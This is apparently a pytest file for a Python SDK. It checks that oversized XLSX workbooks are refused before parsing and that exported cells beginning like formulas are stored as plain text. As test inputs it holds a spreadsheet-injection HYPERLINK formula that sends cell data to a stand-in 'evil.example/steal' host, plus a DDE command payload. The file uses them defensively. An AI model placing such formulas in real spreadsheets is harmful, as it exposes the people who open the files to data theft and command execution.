"""Spreadsheets with limits, cells without formulas (issue 10, item 3; R-012, R-030).

* ``gaozhi list import`` refuses an oversized workbook with a coded error **before**
  openpyxl parses it: a 1.4 MB XLSX with 400 000 rows is refused in a few megabytes of
  memory (measured with ``tracemalloc`` and ``ru_maxrss`` in fresh subprocesses — no
  wall-clock thresholds); every limit (file size, zip members, uncompressed size, rows,
  cells) is configurable and is enforced at its boundary.
* Exported cells beginning with ``=``, ``+``, ``-``, ``@``, tab or CR are text cells, never
  formulas: a ``HYPERLINK`` formula string in a list entry comes back as a string cell.
"""

from __future__ import annotations

import io
import json
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from gaozhi_sdk.documents import export_list_xlsx, import_list_xlsx
from gaozhi_sdk.documents.xlsx import XlsxLimits, append_text_safe
from gaozhi_sdk.errors import ListValidationError
from gaozhi_sdk.models import CommitmentList

SHEET_XML = "xl/worksheets/sheet1.xml"
HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看办理指南")'


def _with_rows(data: bytes, n: int, *, cells_per_row: int = 1) -> bytes:
    """The export with ``n`` extra rows appended to the list sheet (other parts copied)."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info)
            if info.filename == SHEET_XML:
                cells = "".join(
                    f'<c r="{chr(65 + j)}{{r}}" t="n"><v>1</v></c>' for j in range(cells_per_row)
                )
                extra = "".join(
                    f'<row r="{r}">{cells.replace("{r}", str(r))}</row>'
                    for r in range(100, 100 + n)
                )
                body = body.replace(b"</sheetData>", extra.encode() + b"</sheetData>")
            dst.writestr(info.filename, body)
    return out.getvalue()


def _refused(source: bytes | Path, limits: XlsxLimits | None = None) -> ListValidationError:
    with pytest.raises(ListValidationError) as err:
        import_list_xlsx(source, limits=limits)
    return err.value


# ---------------------------------------------------------------- the reproduction

_PROBE = """
import json, sys, tracemalloc
from pathlib import Path
from gaozhi_sdk.documents import import_list_xlsx
from gaozhi_sdk.errors import ListValidationError
data = Path(sys.argv[1]).read_bytes()
tracemalloc.start()
try:
    import_list_xlsx(data)
    code = "accepted"; details = {}
except ListValidationError as exc:
    code, details = exc.code, exc.details
peak = tracemalloc.get_traced_memory()[1]
print(json.dumps({"code": code, "details": details, "peak": peak}))
"""

_RSS = """
import json, resource, subprocess, sys
p = subprocess.run([sys.executable, "-m", "gaozhi_sdk", "list", "import", sys.argv[1]],
                   capture_output=True, text=True)
rss_kib = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
print(json.dumps({"rc": p.returncode, "stderr": p.stderr, "rss_kib": rss_kib}))
"""


@pytest.mark.slow
def test_400k_row_xlsx_is_refused_before_parsing_in_small_memory(
    sample_list: CommitmentList, tmp_path: Path
) -> None:
    big = _with_rows(export_list_xlsx(sample_list), 400_000)
    path = tmp_path / "big.xlsx"
    path.write_bytes(big)
    assert len(big) < 3 * 1024 * 1024  # a small file (the was 1.4 MB)
    probe = subprocess.run(
        [sys.executable, "-c", _PROBE, str(path)], capture_output=True, text=True, check=True
    )
    out = json.loads(probe.stdout)
    assert out["code"] == "GZ-LS-904"
    assert out["details"]["measure"] == "max_rows" and out["details"]["limit"] == 20_000
    # everything allocated while refusing (the input bytes themselves were read before)
    assert out["peak"] < 8 * 1024 * 1024, out["peak"]
    # the command line, whole process: refused with the code, far below the 2.4 GB seen
    cli = subprocess.run(
        [sys.executable, "-c", _RSS, str(path)], capture_output=True, text=True, check=True
    )
    res = json.loads(cli.stdout)
    assert res["rc"] != 0 and "GZ-LS-904" in res["stderr"] and "Traceback" not in res["stderr"]
    assert res["rss_kib"] < 250 * 1024, res["rss_kib"]


# ---------------------------------------------------------------- every limit, at its edge


def test_rows_limit_is_exact_across_chunk_boundaries(
    sample_list: CommitmentList,
) -> None:
    data = export_list_xlsx(sample_list)
    base_rows = sum(len(load_workbook(io.BytesIO(data))[s]["A"]) for s in ("清单", "_gaozhi"))
    n = 3000  # enough rows to cross several 64 KiB read chunks
    grown = _with_rows(data, n)
    limit = base_rows + n
    assert _refused(grown, XlsxLimits(max_rows=limit - 1)).details["found"] == limit
    # at the limit the rows are accepted by the check (the sheet itself then fails to parse
    # as a list, which is a different, later error)
    err = _refused(grown, XlsxLimits(max_rows=limit))
    assert err.code != "GZ-LS-904"


def test_cells_members_uncompressed_and_file_size_limits(
    sample_list: CommitmentList, tmp_path: Path
) -> None:
    data = export_list_xlsx(sample_list)
    assert import_list_xlsx(data, limits=XlsxLimits()) == sample_list
    wide = _with_rows(data, 200, cells_per_row=16)
    err = _refused(wide, XlsxLimits(max_cells=1000))
    assert err.code == "GZ-LS-904" and err.details["measure"] == "max_cells"
    members = len(zipfile.ZipFile(io.BytesIO(data)).infolist())
    err = _refused(data, XlsxLimits(max_members=members - 1))
    assert err.details == {"measure": "max_members", "found": members, "limit": members - 1}
    err = _refused(data, XlsxLimits(max_uncompressed_bytes=1000))
    assert err.details["measure"] == "max_uncompressed_bytes"
    assert "max_uncompressed_bytes" in (err.message_en or "") and "上限" in err.message
    err = _refused(data, XlsxLimits(max_bytes=len(data) - 1))
    assert err.details["measure"] == "max_bytes"
    # a path is refused by its size before it is read
    path = tmp_path / "list.xlsx"
    path.write_bytes(data)
    assert _refused(path, XlsxLimits(max_bytes=10)).details == {
        "measure": "max_bytes",
        "found": len(data),
        "limit": 10,
    }
    assert import_list_xlsx(path) == sample_list


def test_limits_come_from_the_environment(
    sample_list: CommitmentList, monkeypatch: pytest.MonkeyPatch
) -> None:
    data = export_list_xlsx(sample_list)
    monkeypatch.setenv("GAOZHI_XLSX_MAX_ROWS", "3")
    assert XlsxLimits.from_env().max_rows == 3
    assert _refused(data).details["measure"] == "max_rows"
    monkeypatch.setenv("GAOZHI_XLSX_MAX_ROWS", "many")
    err = _refused(data)
    assert err.code == "GZ-LS-906" and err.details["setting"] == "max_rows"


def test_not_a_zip_is_refused_with_a_code() -> None:
    err = _refused(b"PK\x03\x04 not really a zip")
    assert err.code == "GZ-LS-901"


# ---------------------------------------------------------------- no formulas in exports


@pytest.mark.parametrize("leader", ["=", "+", "-", "@", "\t", "\r"])
def test_r030_exported_cells_starting_like_a_formula_are_text(
    sample_list: CommitmentList, leader: str
) -> None:
    text = HYPERLINK if leader == "=" else f"{leader}cmd|' /C calc'!A0"
    entries = list(sample_list.entries)
    entries[0] = entries[0].model_copy(update={"proof_content": text, "guide_ref": text})
    clist = sample_list.model_copy(update={"entries": tuple(entries)})
    data = export_list_xlsx(clist)
    raw = zipfile.ZipFile(io.BytesIO(data)).read(SHEET_XML)
    assert b"<f>" not in raw and b"<f " not in raw
    ws = load_workbook(io.BytesIO(data))["清单"]  # not data_only: formulas would show as "f"
    cells = [c for row in ws.iter_rows() for c in row if c.value == text]
    assert len(cells) == 2
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_r030_hyperlink_survives_the_round_trip_as_a_string(sample_list: CommitmentList) -> None:
    entries = list(sample_list.entries)
    entries[0] = entries[0].model_copy(update={"proof_content": HYPERLINK})
    clist = sample_list.model_copy(update={"entries": tuple(entries)})
    back = import_list_xlsx(export_list_xlsx(clist))
    assert back.entries[0].proof_content == HYPERLINK or any(
        e.proof_content == HYPERLINK for e in back.entries
    )


def test_append_text_safe_used_by_every_xlsx_export_keeps_strings_as_text() -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    append_text_safe(ws, [HYPERLINK, "@SUM(1)", 3])
    buf = io.BytesIO()
    wb.save(buf)
    back = load_workbook(io.BytesIO(buf.getvalue())).active
    assert back is not None
    assert [(c.value, c.data_type) for c in back[1]] == [
        (HYPERLINK, "s"),
        ("@SUM(1)", "s"),
        (3, "n"),
    ]
